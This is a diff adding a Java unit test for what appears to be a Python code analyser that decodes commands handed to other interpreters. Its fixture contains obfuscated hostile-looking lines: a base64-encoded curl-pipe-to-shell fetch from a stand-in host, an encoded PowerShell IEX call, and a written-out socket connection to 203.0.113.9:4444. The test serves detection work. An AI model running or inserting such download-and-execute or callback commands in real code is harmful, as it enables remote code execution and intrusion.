@@ -188,4 +188,33 @@ class PyEvaluatorTest {
             assertThat(c.result()).isInstanceOf(Value.Bytes.class);
         });
     }
+
+    @Test
+    void codeHandedToAnotherInterpreterIsSeenThrough() {
+        String code = """
+                import os, subprocess, sys
+                os.system("echo Y3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g= | base64 -d | bash")
+                subprocess.Popen([sys.executable, "-c", "import os; os.system('id')"])
+                subprocess.run(["powershell", "-NoP", "-enc", "SQBFAFgAIAAnAGgAaQAnAA=="])
+                with open('x.py', 'w') as f:
+                    f.write("import socket\\nsocket.create_connection(('203.0.113.9', 4444))\\n")
+                os.system('python3 -c "import sys; print(sys.version)"')
+                """;
+        PyModel model = evaluate(code);
+        assertThat(model.calls()).anySatisfy(c -> {
+            assertThat(c.callee()).isEqualTo("os.system");
+            assertThat(PyValues.text(c.args().get(0))).isEqualTo("curl https://example.invalid/x | sh");
+            assertThat(c.args().get(0).chain()).containsExactly("base64");
+        });
+        assertThat(model.calls()).anySatisfy(c -> {
+            assertThat(c.callee()).isEqualTo("subprocess.run");
+            assertThat(PyValues.text(c.args().get(0))).isEqualTo("IEX 'hi'");
+            assertThat(c.args().get(0).chain()).containsExactly("base64", "utf-16le");
+        });
+        assertThat(model.stages()).extracting(PyModel.Stage::via, PyModel.Stage::text).contains(
+                org.assertj.core.groups.Tuple.tuple("python -c", "import os; os.system('id')"),
+                org.assertj.core.groups.Tuple.tuple("written to a file",
+                        "import socket\nsocket.create_connection(('203.0.113.9', 4444))\n"),
+                org.assertj.core.groups.Tuple.tuple("python -c", "import sys; print(sys.version)"));
+    }
 }
